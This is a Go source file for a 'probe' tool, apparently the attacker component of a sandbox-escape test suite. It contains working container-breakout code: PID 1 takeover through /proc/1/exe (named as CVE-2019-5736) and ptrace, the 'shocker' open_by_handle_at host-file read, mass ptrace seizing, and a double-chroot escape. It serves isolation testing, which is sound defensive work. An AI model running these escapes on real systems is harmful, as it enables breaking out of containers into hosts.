// Package main is the command probe, the attacker of the sandbox escape suite
// (internal/sandbox/escape_test.go). It runs inside a RUN step, tries one
// class of escape and prints one line per attempt:
//
//	<attempt> <target>: <verdict> [(<detail>)]
//
// where verdict is "ok" (the attempt worked), "denied" (it failed), "failed"
// (it failed, but not the way the suite wants, e.g. EINVAL where seccomp
// answers EPERM), "skipped" (not attempted, with why) or "info". The test
// decides which verdict each attempt must get; the probe only reports, and
// always exits 0 once it has run.
//
// Usage:
//
//	probe init-takeover
//	probe handles [-victim REL] [-handle TYPE:HEX] PATH...
//	probe dev-mknod b|c MAJOR MINOR [MARKER]
//	probe dev-open [-write MARKER] PATH...
//	probe seccomp
//	probe root-escape [PID...]
//	probe self
//
// It is built with CGO_ENABLED=0, so it is static and runs over busybox.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe init-takeover|handles|dev-mknod|dev-open|seccomp|root-escape|self [args]")
		os.Exit(2)
	}
	cmds := map[string]func([]string){
		"init-takeover": initTakeover,
		"handles":       handles,
		"dev-mknod":     devMknod,
		"dev-open":      devOpen,
		"seccomp":       seccomp,
		"root-escape":   rootEscape,
		"self":          self,
	}
	cmd, ok := cmds[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "probe: unknown attack %q\n", os.Args[1])
		os.Exit(2)
	}
	cmd(os.Args[2:])
}

// report prints one attempt.
func report(attempt, target, verdict, detail string) {
	if detail == "" {
		fmt.Printf("%s %s: %s\n", attempt, target, verdict)
		return
	}
	fmt.Printf("%s %s: %s (%s)\n", attempt, target, verdict, strings.ReplaceAll(detail, "\n", `\n`))
}

// tried reports an attack attempt: any error means it was denied.
func tried(attempt, target string, err error, okDetail string) {
	if err != nil {
		report(attempt, target, "denied", errText(err))
		return
	}
	report(attempt, target, "ok", okDetail)
}

// refused reports a system call seccomp must refuse: EPERM or ENOSYS is a
// denial, another error means the call reached the kernel's own checks.
func refused(target string, err error) {
	switch {
	case err == nil:
		report("deny", target, "ok", "")
	case errors.Is(err, unix.EPERM), errors.Is(err, unix.ENOSYS):
		report("deny", target, "denied", errText(err))
	default:
		report("deny", target, "failed", errText(err))
	}
}

// allowed reports a system call ordinary steps need.
func allowed(target string, err error, detail string) {
	if err != nil {
		report("allow", target, "failed", errText(err))
		return
	}
	report("allow", target, "ok", detail)
}

// errText is the error without the path the target already names.
func errText(err error) string {
	var pe *os.PathError
	if errors.As(err, &pe) {
		return pe.Op + ": " + pe.Err.Error()
	}
	var le *os.LinkError
	if errors.As(err, &le) {
		return le.Op + ": " + le.Err.Error()
	}
	return err.Error()
}

// errnoErr turns a raw system call's errno into an error.
func errnoErr(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// initTakeover attacks PID 1 and each of its threads, unless PID 1 is the
// probe itself (runc execs the step's process as PID 1: there is no
// runtime process in the namespace to take over).
func initTakeover([]string) {
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	names := []string{"exe-readlink", "exe-read", "exe-write", "environ-read", "mem-write",
		"ptrace-attach", "ptrace-seize", "fd-readlink", "fd-open"}
	tids, err := taskIDs(1)
	if err != nil {
		report("init", "/proc/1", "failed", "listing threads: "+errText(err))
	}
	if os.Getpid() == 1 {
		report("init", "/proc/1", "info", "pid 1 is this step's own process")
		for _, n := range names {
			report(n, "/proc/1", "skipped", "pid 1 is this step's own process")
		}
		checkTaskCaps(tids)
		return
	}
	report("init", "/proc/1", "info", fmt.Sprintf("pid 1 is not the step's process: attacking it and its %d threads", len(tids)))

	l, err := os.Readlink("/proc/1/exe")
	tried("exe-readlink", "/proc/1/exe", err, strconv.Quote(l))
	tryOpen("exe-read", "/proc/1/exe", os.O_RDONLY)
	// CVE-2019-5736: a writable handle on the runtime's binary.
	tryOpen("exe-write", "/proc/1/exe", os.O_WRONLY)
	tryRead("environ-read", "/proc/1/environ")
	tryOpen("mem-write", "/proc/1/mem", os.O_RDWR)
	tried("ptrace-attach", "1", ptraceAttach(1), "attached and detached")
	for _, tid := range tids {
		task := fmt.Sprintf("/proc/1/task/%d", tid)
		tryRead("environ-read", task+"/environ")
		tryOpen("mem-write", task+"/mem", os.O_RDWR)
		tried("ptrace-seize", strconv.Itoa(tid), ptraceSeize(tid), "seized and detached")
	}
	attackFDs()
	checkTaskCaps(tids)
}

// taskIDs lists the threads of pid.
func taskIDs(pid int) ([]int, error) {
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	if err != nil {
		return nil, err
	}
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	sort.Ints(out)
	return out, nil
}

// tryOpen opens path with flag and closes it at once.
func tryOpen(attempt, path string, flag int) {
	f, err := os.OpenFile(path, flag|unix.O_NONBLOCK, 0)
	if err == nil {
		f.Close()
	}
	tried(attempt, path, err, "opened")
}

// tryRead reads path.
func tryRead(attempt, path string) {
	b, err := os.ReadFile(path)
	tried(attempt, path, err, fmt.Sprintf("read %d bytes", len(b)))
}

// ptraceAttach attaches to pid (which stops it), waits for the stop and
// detaches without a signal, so the target runs on.
func ptraceAttach(pid int) error {
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	_, werr := unix.Wait4(pid, &ws, unix.WALL, nil)
	return errors.Join(werr, unix.PtraceDetach(pid))
}

// ptraceSeize seizes tid (which does not stop it), then interrupts, waits
// and detaches.
func ptraceSeize(tid int) error {
	if err := unix.PtraceSeize(tid); err != nil {
		return err
	}
	if err := unix.PtraceInterrupt(tid); err != nil {
		return nil // still seized: the kernel detaches when the probe exits
	}
	var ws unix.WaitStatus
	_, werr := unix.Wait4(tid, &ws, unix.WALL, nil)
	return errors.Join(werr, unix.PtraceDetach(tid))
}

// attackFDs resolves and reopens (read-only: nothing is written through
// them) every descriptor PID 1 holds.
func attackFDs() {
	ents, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		report("fd-list", "/proc/1/fd", "denied", errText(err))
		report("fd-readlink", "/proc/1/fd/*", "denied", "listing: "+errText(err))
		report("fd-open", "/proc/1/fd/*", "denied", "listing: "+errText(err))
		return
	}
	report("fd-list", "/proc/1/fd", "ok", fmt.Sprintf("%d entries", len(ents)))
	for _, e := range ents {
		p := "/proc/1/fd/" + e.Name()
		l, err := os.Readlink(p)
		tried("fd-readlink", p, err, strconv.Quote(l))
		tryOpen("fd-open", p, os.O_RDONLY)
	}
}

// checkTaskCaps reports, per thread of PID 1, any capability in its
// effective, permitted, inheritable, ambient or bounding set (what an
// execve could gain) that the probe's own bounding set lacks, and any
// thread under neither no_new_privs nor a seccomp filter: a thread holding
// one is a way out for whoever controls it.
func checkTaskCaps(tids []int) {
	self, err := readCaps("/proc/self/status")
	if err != nil {
		report("caps-subset", "/proc/self/status", "failed", errText(err))
		return
	}
	bnd := self["CapBnd"]
	for _, tid := range tids {
		p := fmt.Sprintf("/proc/1/task/%d/status", tid)
		c, err := readCaps(p)
		if err != nil {
			report("caps-subset", p, "failed", errText(err))
			continue
		}
		sets := fmt.Sprintf("CapEff %016x CapPrm %016x CapInh %016x CapAmb %016x CapBnd %016x NoNewPrivs %d Seccomp %d",
			c["CapEff"], c["CapPrm"], c["CapInh"], c["CapAmb"], c["CapBnd"], c["NoNewPrivs"], c["Seccomp"])
		// The bounding set is what an execve (of a setuid file) can gain.
		held := c["CapEff"] | c["CapPrm"] | c["CapInh"] | c["CapAmb"] | c["CapBnd"]
		if extra := held &^ bnd; extra != 0 {
			report("caps-subset", p, "failed", fmt.Sprintf("%s: %s outside the step's CapBnd %016x", sets, capList(extra), bnd))
			continue
		}
		if c["NoNewPrivs"] != 1 && c["Seccomp"] != 2 {
			report("caps-subset", p, "failed", sets+": neither no_new_privs nor a seccomp filter")
			continue
		}
		report("caps-subset", p, "ok", sets)
	}
}

// readCaps reads the Cap* lines of a status file.
func readCaps(path string) (map[string]uint64, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	out := map[string]uint64{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), ":")
		if !ok || !strings.HasPrefix(k, "Cap") && k != "NoNewPrivs" && k != "Seccomp" {
			continue
		}
		base := 16
		if k == "NoNewPrivs" || k == "Seccomp" {
			base = 10
		}
		n, err := strconv.ParseUint(strings.TrimSpace(v), base, 64)
		if err != nil {
			return nil, fmt.Errorf("parsing %s: %w", k, err)
		}
		out[k] = n
	}
	if _, ok := out["CapBnd"]; !ok {
		return nil, errors.New("no CapBnd line")
	}
	return out, sc.Err()
}

// capList names the capabilities in mask.
func capList(mask uint64) string {
	names := []string{"CHOWN", "DAC_OVERRIDE", "DAC_READ_SEARCH", "FOWNER", "FSETID", "KILL", "SETGID",
		"SETUID", "SETPCAP", "LINUX_IMMUTABLE", "NET_BIND_SERVICE", "NET_BROADCAST", "NET_ADMIN",
		"NET_RAW", "IPC_LOCK", "IPC_OWNER", "SYS_MODULE", "SYS_RAWIO", "SYS_CHROOT", "SYS_PTRACE",
		"SYS_PACCT", "SYS_ADMIN", "SYS_BOOT", "SYS_NICE", "SYS_RESOURCE", "SYS_TIME", "SYS_TTY_CONFIG",
		"MKNOD", "LEASE", "AUDIT_WRITE", "AUDIT_CONTROL", "SETFCAP", "MAC_OVERRIDE", "MAC_ADMIN",
		"SYSLOG", "WAKE_ALARM", "BLOCK_SUSPEND", "AUDIT_READ", "PERFMON", "BPF", "CHECKPOINT_RESTORE"}
	var out []string
	for i := range 64 {
		if mask&(1<<uint(i)) == 0 {
			continue
		}
		if i < len(names) {
			out = append(out, "CAP_"+names[i])
		} else {
			out = append(out, fmt.Sprintf("cap%d", i))
		}
	}
	return strings.Join(out, ",")
}

// handles is the "shocker" attack: file handles for the files the
// runtime binds in from the host, then open_by_handle_at with the host
// filesystem's root handle to reach any host file from there.
func handles(args []string) {
	fs := flag.NewFlagSet("handles", flag.ExitOnError)
	victim := fs.String("victim", "", "host file to read, relative to its filesystem's root")
	hostHandle := fs.String("handle", "", "the host filesystem's root handle, TYPE:HEX")
	fs.Parse(args)
	// ext4's root: FILEID_INO32_GEN (1), inode 2, generation 0.
	crafted := make([]byte, 8)
	binary.LittleEndian.PutUint32(crafted, 2)
	roots := map[string]unix.FileHandle{"open-root-handle": unix.NewFileHandle(1, crafted)}
	if *hostHandle == "" {
		report("open-host-handle", "-", "skipped", "the test found no host root handle")
	} else {
		h, err := parseHandle(*hostHandle)
		if err != nil {
			report("open-host-handle", *hostHandle, "failed", errText(err))
		} else {
			roots["open-host-handle"] = h
		}
	}
	for _, path := range fs.Args() {
		mountFD, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err != nil {
			report("name-to-handle", path, "failed", "opening: "+errText(err))
			continue
		}
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
		if err != nil {
			report("name-to-handle", path, "denied", errText(err))
			report("open-handle", path, "skipped", "no handle")
		} else {
			report("name-to-handle", path, "ok", fmt.Sprintf("type %d, %d bytes", h.Type(), h.Size()))
			fd, err := unix.OpenByHandleAt(mountFD, h, unix.O_RDONLY|unix.O_CLOEXEC)
			if err == nil {
				unix.Close(fd)
			}
			tried("open-handle", path, err, "opened")
		}
		for _, name := range []string{"open-root-handle", "open-host-handle"} {
			if h, ok := roots[name]; ok {
				fd, err := unix.OpenByHandleAt(mountFD, h, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
				tried(name, path, err, readVictim(fd, *victim))
			}
		}
		unix.Close(mountFD)
	}
}

// readVictim reads the victim through a descriptor of the host's root,
// and closes it.
func readVictim(rootFD int, victim string) string {
	if rootFD < 0 {
		return ""
	}
	defer unix.Close(rootFD)
	if victim == "" {
		return "got a host root descriptor"
	}
	fd, err := unix.Openat(rootFD, victim, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "got a host root descriptor; victim: " + err.Error()
	}
	f := os.NewFile(uintptr(fd), victim)
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, 256))
	if err != nil {
		return "got a host root descriptor; victim: " + err.Error()
	}
	return "got a host root descriptor; victim reads " + strconv.Quote(string(b))
}

func parseHandle(s string) (unix.FileHandle, error) {
	t, h, ok := strings.Cut(s, ":")
	typ, err := strconv.ParseInt(t, 10, 32)
	if !ok || err != nil {
		return unix.FileHandle{}, fmt.Errorf("bad handle %q", s)
	}
	b, err := hex.DecodeString(h)
	if err != nil {
		return unix.FileHandle{}, fmt.Errorf("bad handle %q: %w", s, err)
	}
	return unix.NewFileHandle(int32(typ), b), nil
}

// rootEscape tries to leave the step's root for the host's: through a
// directory descriptor it was given, through another process of the same
// user it can ptrace (any pid: in chroot mode a step shares strata's PID
// namespace, and a shell that started strata would be a way out) or read
// with process_vm_readv (its parent), and last the classic double chroot
// (needs CAP_SYS_CHROOT), which leaves the probe wherever it got. PIDs
// are tried with ptrace on top of 1-65536 (pid_max may be higher).
func rootEscape(args []string) {
	var root unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		report("root", "/", "failed", errText(err))
		return
	}
	dirFDs()
	var extra []int
	for _, a := range args {
		if n, err := strconv.Atoi(a); err == nil {
			extra = append(extra, n)
		}
	}
	ptraceAny(extra)
	ppid := os.Getppid()
	if ppid == 0 {
		report("vm-read-parent", "0", "skipped", "no parent in this PID namespace")
	} else {
		buf := make([]byte, 8)
		local := []unix.Iovec{{Base: &buf[0], Len: 8}}
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		_, err := unix.ProcessVMReadv(ppid, local, remote, 0)
		if err == nil || errors.Is(err, unix.EFAULT) || errors.Is(err, unix.EIO) {
			report("vm-read-parent", strconv.Itoa(ppid), "ok", fmt.Sprintf("access granted (%v)", err))
		} else {
			report("vm-read-parent", strconv.Itoa(ppid), "denied", errText(err))
		}
	}
	doubleChroot(root)
}

// dirFDs reports descriptors beyond 0-2; one of a directory outside the
// root is a way out (fchdir, then ..).
func dirFDs() {
	var open []string
	dirs := 0
	for fd := 3; fd < 1024; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		open = append(open, fmt.Sprintf("%d:%o", fd, st.Mode&unix.S_IFMT))
		if st.Mode&unix.S_IFMT == unix.S_IFDIR {
			dirs++
		}
	}
	if dirs > 0 {
		report("dir-fd", "3-1023", "ok", fmt.Sprintf("%d directory descriptors: %s", dirs, strings.Join(open, " ")))
		return
	}
	report("dir-fd", "3-1023", "denied", fmt.Sprintf("no directory descriptor (open: %q)", open))
}

// ptraceAny seizes (without stopping it) every pid up to 65536 and those
// of extra, but its own: any success means another process is the step's.
func ptraceAny(extra []int) {
	self := os.Getpid()
	var got []string
	errs := map[string]int{}
	pids := extra
	for pid := 1; pid <= 1<<16; pid++ {
		pids = append(pids, pid)
	}
	for _, pid := range pids {
		if pid == self {
			continue
		}
		err := unix.PtraceSeize(pid)
		switch {
		case err == nil:
			got = append(got, strconv.Itoa(pid))
			unix.PtraceDetach(pid)
		case errors.Is(err, unix.ESRCH):
		default:
			errs[err.Error()]++
		}
	}
	if len(got) > 0 {
		report("ptrace-any", "1-65536", "ok", "seized "+strings.Join(got, ","))
		return
	}
	report("ptrace-any", "1-65536", "denied", fmt.Sprint(errs))
}

// doubleChroot chroots into a new dir, climbs from the working directory
// (still outside it) and chroots there: it got out if / is then another
// directory than the step's root.
func doubleChroot(root unix.Stat_t) {
	dir := "/tmp/strata-probe-chroot"
	os.Mkdir(dir, 0o755)
	if err := unix.Chroot(dir); err != nil {
		report("double-chroot", dir, "denied", errText(err))
		return
	}
	for range 64 {
		unix.Chdir("..")
	}
	err := unix.Chroot(".")
	var now unix.Stat_t
	if serr := unix.Stat("/", &now); serr != nil {
		report("double-chroot", dir, "failed", errText(serr))
		return
	}
	if err == nil && (now.Dev != root.Dev || now.Ino != root.Ino) {
		report("double-chroot", dir, "ok", fmt.Sprintf("out: / is now dev %d inode %d, the step's was dev %d inode %d", now.Dev, now.Ino, root.Dev, root.Ino))
		return
	}
	report("double-chroot", dir, "denied", fmt.Sprintf("chroot allowed, but the root climbed to is the step's own (%v)", err))
}

// self reports the probe's own capability sets (capget, PR_CAPBSET_READ),
// no_new_privs and seccomp mode (prctl), as info lines: chroot mode has no
// /proc/self/status to read them from.
func self([]string) {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		report("self", "capget", "failed", errText(err))
		return
	}
	set := func(lo, hi uint32) uint64 { return uint64(lo) | uint64(hi)<<32 }
	var bnd uint64
	for c := 0; c < 64; c++ {
		if v, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); err == nil && v == 1 {
			bnd |= 1 << uint(c)
		}
	}
	var amb uint64
	for c := 0; c < 64; c++ {
		if v, err := unix.PrctlRetInt(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_IS_SET, uintptr(c), 0, 0); err == nil && v == 1 {
			amb |= 1 << uint(c)
		}
	}
	nnp, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	mode, _ := unix.PrctlRetInt(unix.PR_GET_SECCOMP, 0, 0, 0, 0)
	for _, kv := range [][2]string{
		{"CapEff", fmt.Sprintf("%016x", set(data[0].Effective, data[1].Effective))},
		{"CapPrm", fmt.Sprintf("%016x", set(data[0].Permitted, data[1].Permitted))},
		{"CapInh", fmt.Sprintf("%016x", set(data[0].Inheritable, data[1].Inheritable))},
		{"CapBnd", fmt.Sprintf("%016x", bnd)},
		{"CapAmb", fmt.Sprintf("%016x", amb)},
		{"NoNewPrivs", strconv.Itoa(nnp)},
		{"Seccomp", strconv.Itoa(mode)},
	} {
		report("self", kv[0], "info", kv[1])
	}
}
